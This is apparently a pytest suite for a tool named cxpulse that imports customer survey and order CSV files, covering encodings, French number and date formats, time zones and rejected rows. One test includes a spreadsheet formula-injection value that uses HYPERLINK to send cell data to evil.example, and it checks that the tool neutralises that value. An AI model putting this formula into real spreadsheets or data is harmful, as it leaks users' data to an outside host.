"""Importing CSV files as users have them: French Excel exports, time zones, bad rows."""

from __future__ import annotations

import csv
import io
import shutil
from datetime import datetime
from pathlib import Path

import pandas as pd
import pytest

from cxpulse.errors import ConfigError, ImportRejected
from cxpulse.ingest import import_file, parse_map_options
from cxpulse.schema import IMPORTS_TABLE
from cxpulse.settings import Settings
from cxpulse.store import Store

from .conftest import FIXTURES, SURVEY_HEADER, records, stored, write_csv

FRENCH_MAP = parse_map_options(
    [
        "Identifiant=response_id",
        "Client=customer_id",
        "Enquête=survey_id",
        "Type=question_type",
        "Note=score",
        "Commentaire=comment",
        "Canal=channel",
        "Date de réponse=responded_at",
        "Langue=language",
    ]
)
FRENCH_TIMES = [  # the fixture's Paris times (CET, UTC+1) in UTC
    datetime(2025, 12, 31, 13, 5),
    datetime(2025, 11, 15, 8, 30),
    datetime(2025, 3, 1, 23, 0),
    datetime(2025, 2, 28, 17, 45),
    datetime(2025, 2, 1, 7, 0),
]


def survey_csv(rows: list[list[object]], header: str = "") -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(
        (header or "response_id,customer_id,question_type,score,comment,responded_at").split(",")
    )
    writer.writerows(rows)
    return out.getvalue()


def good_rows(n: int) -> list[list[object]]:
    return [[f"r{i:03d}", f"c{i}", "nps", i % 11, "", "2025-05-01 10:00"] for i in range(n)]


def _check_french_survey(store: Store) -> None:
    rows = records(store, "survey_responses")
    assert [r["response_id"] for r in rows] == ["R-001", "R-002", "R-003", "R-004", "R-005"]
    assert [r["responded_at"] for r in rows] == FRENCH_TIMES
    assert [r["score"] for r in rows] == [9, 3, 4, 10, 7]
    assert [r["question_type"] for r in rows] == ["nps", "nps", "csat", "nps", "nps"]
    assert rows[0]["comment"] == "Très satisfait, équipe réactive"
    assert rows[1]["comment"] == "Livraison en retard… déçu"
    assert rows[2]["comment"] == "Ça va ; rien à signaler"
    assert rows[3]["comment"] == "Garçon très poli,\r\nœuvre d'art !"
    assert rows[4]["comment"] is None
    # Scales and polarity implied by the question type.
    assert (rows[0]["scale_min"], rows[0]["scale_max"], rows[0]["polarity"]) == (
        0,
        10,
        "high_is_good",
    )
    assert (rows[2]["scale_min"], rows[2]["scale_max"]) == (1, 5)
    assert {r["source"] for r in rows} == {"reponses_excel_fr.csv"}


def test_french_excel_export_in_cp1252(store: Store, paris: Settings, tmp_path: Path) -> None:
    path = Path(shutil.copy(FIXTURES / "reponses_excel_fr.csv", tmp_path))
    with pytest.raises(UnicodeDecodeError):
        path.read_bytes().decode("utf-8")

    report = import_file(store, paris, "survey_responses", path, mapping=FRENCH_MAP)

    assert (report.encoding, report.delimiter) == ("cp1252", ";")
    assert (report.rows_read, report.rows_new, report.rows_rejected) == (5, 5, 0)
    _check_french_survey(store)


def test_french_excel_export_in_utf8_with_bom(
    store: Store, paris: Settings, tmp_path: Path
) -> None:
    text = (FIXTURES / "reponses_excel_fr.csv").read_bytes().decode("cp1252")
    path = write_csv(tmp_path / "reponses_excel_fr.csv", text, "utf-8-sig")
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")

    report = import_file(store, paris, "survey_responses", path, mapping=FRENCH_MAP)

    assert report.encoding == "utf-8-sig"
    _check_french_survey(store)


def test_french_orders_with_comma_decimals_and_a_mapping_file(
    store: Store, paris: Settings, tmp_path: Path
) -> None:
    from cxpulse.ingest import load_mapping

    path = Path(shutil.copy(FIXTURES / "commandes_excel_fr.csv", tmp_path))
    mapping = load_mapping(FIXTURES / "commandes_excel_fr.mapping.yaml")

    report = import_file(store, paris, "orders", path, mapping=mapping)

    assert report.rows_new == 5
    assert report.ignored_columns == ("Remarque",)
    assert "ignored columns: Remarque" in report.summary()
    rows = records(store, "orders")
    assert [r["amount"] for r in rows] == [1234.56, 89.90, 12000.0, 0.99, 45.0]
    assert [r["margin"] for r in rows] == [4.5, 12.25, 1500.0, None, 3.333]
    assert [r["delivered_at"] for r in rows] == [
        datetime(2026, 1, 1, 23, 0),
        None,
        datetime(2025, 3, 4, 23, 0),
        None,
        datetime(2025, 2, 2, 23, 0),
    ]
    assert rows[0]["ordered_at"] == datetime(2025, 12, 31, 13, 5)


def test_thousands_separated_by_narrow_no_break_spaces(
    store: Store, paris: Settings, tmp_path: Path
) -> None:
    text = (
        "order_id;ordered_at;amount\n"
        "o1;2025-01-01;12\u202f345,5\n"
        "o2;2025-01-01;1\u00a0000\n"
        "o3;2025-01-01;2 000 000,25\n"
    )
    path = write_csv(tmp_path / "orders.csv", text)
    import_file(store, paris, "orders", path)
    assert [r["amount"] for r in records(store, "orders")] == [12345.5, 1000.0, 2000000.25]


def test_iso_timestamps_with_offsets_are_stored_in_utc(
    store: Store, paris: Settings, tmp_path: Path
) -> None:
    stamps = [
        "2025-12-31T14:05:00+01:00",
        "2025-06-30T23:30:00Z",
        "2025-06-30T23:30:00-04:00",
        "2025-06-30T23:30:00.250+05:30",
        "2025-06-30 08:00:00+0200",
    ]
    rows = [[f"r{i}", "c", "nps", 5, "", s] for i, s in enumerate(stamps)]
    path = write_csv(tmp_path / "responses.csv", survey_csv(rows))

    import_file(store, paris, "survey_responses", path)

    assert stored(store, "survey_responses")["responded_at"].tolist() == [
        pd.Timestamp("2025-12-31 13:05"),
        pd.Timestamp("2025-06-30 23:30"),
        pd.Timestamp("2025-07-01 03:30"),
        pd.Timestamp("2025-06-30 18:00:00.250"),
        pd.Timestamp("2025-06-30 06:00"),
    ]


def test_naive_times_are_paris_time_across_daylight_saving_changes(
    store: Store, paris: Settings, tmp_path: Path
) -> None:
    local_to_utc = {
        "2025-03-30 01:30": "2025-03-30 00:30",  # CET, UTC+1
        "2025-03-30 02:30": "2025-03-30 01:00",  # does not exist: moved forward to 03:00 CEST
        "2025-03-30 03:30": "2025-03-30 01:30",  # CEST, UTC+2
        "2025-10-26 01:30": "2025-10-25 23:30",  # CEST
        "2025-10-26 02:30": "2025-10-26 00:30",  # happens twice: the first one (CEST)
        "2025-10-26 03:30": "2025-10-26 02:30",  # CET
        "26/10/2025 02:30": "2025-10-26 00:30",  # same rule for day-first dates
    }
    rows = [[f"r{i}", "c", "nps", 5, "", local] for i, local in enumerate(local_to_utc)]
    path = write_csv(tmp_path / "responses.csv", survey_csv(rows))

    import_file(store, paris, "survey_responses", path)

    got = stored(store, "survey_responses")["responded_at"].tolist()
    assert got == [pd.Timestamp(v) for v in local_to_utc.values()]


def test_naive_times_in_a_utc_workspace_are_kept(store: Store, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "r.csv", survey_csv([["r1", "c", "nps", 5, "", "31/12/2025"]]))
    import_file(store, Settings(), "survey_responses", path)
    assert stored(store, "survey_responses")["responded_at"][0] == pd.Timestamp("2025-12-31")


def test_nps_score_of_11_is_refused_and_nothing_is_written(
    store: Store, paris: Settings, tmp_path: Path
) -> None:
    rows = good_rows(9)
    rows[3][4] = 'Ligne 1 du commentaire\nligne 2\n\nligne 4, "citée"'  # 3 extra lines
    rows.append(["r-bad", "c", "nps", 11, "", "2025-05-01 10:00"])
    path = write_csv(tmp_path / "responses.csv", survey_csv(rows))
    # Header (1) + 9 rows (2..10) + 3 more lines inside the quoted comment: the bad row is on 14.
    assert path.read_text().splitlines()[13].startswith("r-bad")

    with pytest.raises(ImportRejected) as caught:
        import_file(store, paris, "survey_responses", path)

    message = str(caught.value)
    expected = (
        "responses.csv, line 14, column \"score\": '11' - "
        "score must lie within scale_min..scale_max (0..10)"
    )
    assert expected in message
    assert "1 problem in 1 row" in message
    assert "--on-error skip" in message
    assert [p.line for p in caught.value.problems] == [14]
    assert stored(store, "survey_responses").empty
    assert store.table(IMPORTS_TABLE).count().execute() == 0


def test_refusal_lists_ten_problems_and_the_total(
    store: Store, paris: Settings, tmp_path: Path
) -> None:
    rows: list[list[object]] = [[f"r{i}", "c", "nps", "beaucoup", "", "hier"] for i in range(25)]
    path = write_csv(tmp_path / "responses.csv", survey_csv(rows))

    with pytest.raises(ImportRejected) as caught:
        import_file(store, paris, "survey_responses", path)

    message = str(caught.value)
    assert "50 problems in 25 rows" in message
    assert message.count("responses.csv, line ") == 10
    assert "... and 40 more." in message
    assert "not a whole number" in message
    assert "not a date; expected e.g. 2025-12-31 14:05" in message
    assert len(caught.value.problems) == 50


def test_on_error_skip_imports_the_good_rows_and_writes_the_rejects(
    store: Store, paris: Settings, tmp_path: Path
) -> None:
    rows = good_rows(5)
    rows[1][3] = 11
    rows[2][2] = "promoter"
    rows[2][5] = "31/02/2025"
    rows[2][4] = '=HYPERLINK("http://evil.example/?"&A1,"x")'  # a formula in a spreadsheet
    rows[4][4] = "multi\nline"
    rows[4][3] = -1
    path = write_csv(tmp_path / "responses.csv", survey_csv(rows))

    report = import_file(store, paris, "survey_responses", path, on_error="skip")

    assert (report.rows_read, report.rows_new, report.rows_rejected) == (5, 2, 3)
    assert report.rejects_path == tmp_path / "responses.rejects.csv"
    assert "3 rejected" in report.summary()
    assert [r["response_id"] for r in records(store, "survey_responses")] == ["r000", "r003"]

    with report.rejects_path.open(newline="", encoding="utf-8") as f:
        rejects = list(csv.DictReader(f))
    assert list(rejects[0]) == [
        "response_id",
        "customer_id",
        "question_type",
        "score",
        "comment",
        "responded_at",
        "line",
        "reason",
    ]
    assert [(r["response_id"], r["line"]) for r in rejects] == [
        ("r001", "3"),
        ("r002", "4"),
        ("r004", "6"),
    ]
    assert rejects[0]["score"] == "11"
    assert "score must lie within scale_min..scale_max (0..10)" in rejects[0]["reason"]
    assert (
        "column \"question_type\": 'promoter' - must be one of: nps, csat" in rejects[1]["reason"]
    )
    assert "column \"responded_at\": '31/02/2025' - not a date" in rejects[1]["reason"]
    assert rejects[2]["comment"] == "multi\nline"
    # the rejects file is CSV cxpulse writes: a formula is written as text, a number as is
    assert rejects[1]["comment"] == '\'=HYPERLINK("http://evil.example/?"&A1,"x")'
    assert rejects[2]["score"] == "-1"
    assert "score must lie within" in rejects[2]["reason"]

    log = store.table(IMPORTS_TABLE).execute()
    assert log[["rows_read", "rows_new", "rows_rejected"]].values.tolist() == [[5, 2, 3]]


def test_rejects_path_can_be_chosen(store: Store, paris: Settings, tmp_path: Path) -> None:
    rows = good_rows(2)
    rows[0][3] = 12
    path = write_csv(tmp_path / "responses.csv", survey_csv(rows))
    target = tmp_path / "out" / "bad.csv"

    report = import_file(
        store, paris, "survey_responses", path, on_error="skip", rejects_path=target
    )

    assert report.rejects_path == target
    assert pd.read_csv(target)["line"].tolist() == [2]
    assert not (tmp_path / "responses.rejects.csv").exists()


def test_missing_required_column_names_file_column_and_hint(
    store: Store, paris: Settings, tmp_path: Path
) -> None:
    path = write_csv(tmp_path / "export.csv", "id;Note;Quand\nr1;9;2025-01-01\n")

    with pytest.raises(ImportRejected) as caught:
        import_file(store, paris, "survey_responses", path, mapping={"id": "response_id"})

    message = str(caught.value)
    assert "export.csv" in message
    assert '"question_type", "responded_at"' in message
    assert 'The file\'s columns are: "id", "Note", "Quand"' in message
    assert '--map "THEIR_COLUMN=question_type"' in message


def test_duplicate_key_in_file_names_both_lines(
    store: Store, paris: Settings, tmp_path: Path
) -> None:
    rows = good_rows(4)
    rows[3][0] = "r001"
    path = write_csv(tmp_path / "responses.csv", survey_csv(rows))

    with pytest.raises(ImportRejected) as caught:
        import_file(store, paris, "survey_responses", path)

    texts = [str(p) for p in caught.value.problems]
    assert texts == [
        f"responses.csv, {line}, column \"response_id\": 'r001' - the same response_id is on "
        "lines 3, 5; each row needs its own response_id"
        for line in ("line 3", "line 5")
    ]


def test_day_month_order_from_the_data_and_the_setting(store: Store, tmp_path: Path) -> None:
    us = write_csv(
        tmp_path / "us.csv",
        survey_csv(
            [["r1", "c", "nps", 5, "", "12/31/2025"], ["r2", "c", "nps", 5, "", "01/02/2025"]]
        ),
    )
    import_file(store, Settings(dayfirst=True), "survey_responses", us)
    got = stored(store, "survey_responses")["responded_at"].tolist()
    assert got == [pd.Timestamp("2025-12-31"), pd.Timestamp("2025-01-02")]

    unclear = write_csv(
        tmp_path / "unclear.csv",
        survey_csv([["r3", "c", "nps", 5, "", "03/04/2025"]]),
    )
    import_file(store, Settings(dayfirst=False), "survey_responses", unclear)
    import_file(store, Settings(dayfirst=True), "survey_responses", unclear, source="again")
    assert stored(store, "survey_responses")["responded_at"][2] == pd.Timestamp("2025-04-03")


def test_day_first_and_month_first_in_one_column_is_a_problem(
    store: Store, paris: Settings, tmp_path: Path
) -> None:
    rows = [["r1", "c", "nps", 5, "", "31/12/2025"], ["r2", "c", "nps", 5, "", "12/31/2025"]]
    path = write_csv(tmp_path / "mixed.csv", survey_csv(rows))
    with pytest.raises(ImportRejected) as caught:
        import_file(store, paris, "survey_responses", path)
    problem = caught.value.problems[0]
    assert problem.column == "responded_at"
    assert "day/month order unclear" in problem.rule
    assert "'31/12/2025'" in problem.rule and "'12/31/2025'" in problem.rule


def test_source_defaults_to_file_name_unless_given_or_in_the_file(
    store: Store, paris: Settings, tmp_path: Path
) -> None:
    header = "response_id,customer_id,question_type,score,comment,responded_at,source"
    rows = [
        ["r1", "c", "nps", 5, "", "2025-01-01", "typeform"],
        ["r2", "c", "nps", 5, "", "2025-01-01", ""],
    ]
    path = write_csv(tmp_path / "mixed.csv", survey_csv(rows, header))
    import_file(store, paris, "survey_responses", path)
    assert stored(store, "survey_responses")["source"].tolist() == ["typeform", "mixed.csv"]

    import_file(store, paris, "survey_responses", path, source="crm")
    assert stored(store, "survey_responses")["source"].tolist() == ["typeform", "crm"]


def test_columns_match_regardless_of_case_and_spaces(
    store: Store, paris: Settings, tmp_path: Path
) -> None:
    text = "Response ID,Question Type,SCORE,Responded At,Note interne\nr1,NPS,9,2025-01-01,x\n"
    path = write_csv(tmp_path / "r.csv", text.replace("Response ID", "Response_ID"))
    report = import_file(store, paris, "survey_responses", path)
    assert report.rows_new == 1
    assert report.ignored_columns == ("Note interne",)


def test_tab_and_pipe_separated_files(store: Store, paris: Settings, tmp_path: Path) -> None:
    tsv = survey_csv(good_rows(2)).replace(",", "\t")
    psv = survey_csv(good_rows(3)).replace(",", "|")
    import_file(store, paris, "survey_responses", write_csv(tmp_path / "a.tsv", tsv))
    report = import_file(store, paris, "survey_responses", write_csv(tmp_path / "b.txt", psv))
    # The first two rows now come from another file: their source changed.
    assert (report.delimiter, report.rows_new, report.rows_updated) == ("|", 1, 2)


def test_unknown_table_extension_and_missing_file(
    store: Store, paris: Settings, tmp_path: Path
) -> None:
    path = write_csv(tmp_path / "r.csv", survey_csv(good_rows(1)))
    with pytest.raises(ConfigError, match="no canonical table 'surveys'"):
        import_file(store, paris, "surveys", path)
    numbers = tmp_path / "r.numbers"  # Apple Numbers: no reader
    numbers.write_bytes(b"PK")
    with pytest.raises(ConfigError, match=r"cannot tell the format of r\.numbers.*\.xlsx"):
        import_file(store, paris, "survey_responses", numbers)
    excel = tmp_path / "r.xlsx"  # read now, and a broken one says so
    excel.write_bytes(b"PK")
    with pytest.raises(ImportRejected, match=r"r\.xlsx is not a readable workbook"):
        import_file(store, paris, "survey_responses", excel)
    with pytest.raises(ConfigError, match="no such file"):
        import_file(store, paris, "survey_responses", tmp_path / "nope.csv")


def test_progress_reports_each_step(store: Store, paris: Settings, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "r.csv", survey_csv(good_rows(3)))
    said: list[str] = []
    import_file(store, paris, "survey_responses", path, progress=said.append)
    assert said[0] == "r.csv: read 3 rows (utf-8)"
    assert any("wrote 3 of 3 inserted rows" in s for s in said)
    assert said[-1] == "r.csv: committed"


def test_values_too_large_for_their_column_are_located_not_crashed(
    store: Store, paris: Settings, tmp_path: Path
) -> None:
    rows = good_rows(3)
    rows[1][3] = "99999999999999999999999"
    path = write_csv(tmp_path / "responses.csv", survey_csv(rows))
    with pytest.raises(ImportRejected) as caught:
        import_file(store, paris, "survey_responses", path)
    assert (
        "responses.csv, line 3, column \"score\": '99999999999999999999999' - too large for "
        "this column" in str(caught.value)
    )

    report = import_file(store, paris, "survey_responses", path, on_error="skip")
    assert (report.rows_new, report.rows_rejected) == (2, 1)
    assert report.rejects_path is not None
    rejects = report.rejects_path.read_text(encoding="utf-8")
    assert "too large for this column" in rejects

    orders = write_csv(tmp_path / "orders.csv", "order_id,ordered_at,amount\nO1,2025-01-01,1e400\n")
    with pytest.raises(ImportRejected, match=r'line 2, column "amount": \'1e400\' - too large'):
        import_file(store, paris, "orders", orders)


def test_an_error_names_the_files_own_column(store: Store, paris: Settings, tmp_path: Path) -> None:
    path = write_csv(
        tmp_path / "r.csv",
        "id,Note,question_type,responded_at\nr1,11,nps,2025-01-01\nr2,4,nps,2025-01-01\n",
    )
    mapping = {"id": "response_id", "Note": "score"}
    with pytest.raises(ImportRejected, match="line 2, column \"Note\" \\(score\\): '11'"):
        import_file(store, paris, "survey_responses", path, mapping=mapping)
    report = import_file(store, paris, "survey_responses", path, mapping=mapping, on_error="skip")
    assert report.rejects_path is not None
    with report.rejects_path.open(newline="", encoding="utf-8") as f:
        (reject,) = csv.DictReader(f)
    assert reject["reason"].startswith("column \"Note\" (score): '11' - score must lie within")
    # a column named as ours keeps its one name
    same = write_csv(tmp_path / "s.csv", f"{SURVEY_HEADER}\nr3,C1,nps,12,,2025-01-01\n")
    with pytest.raises(ImportRejected, match="line 2, column \"score\": '12'"):
        import_file(store, paris, "survey_responses", same)
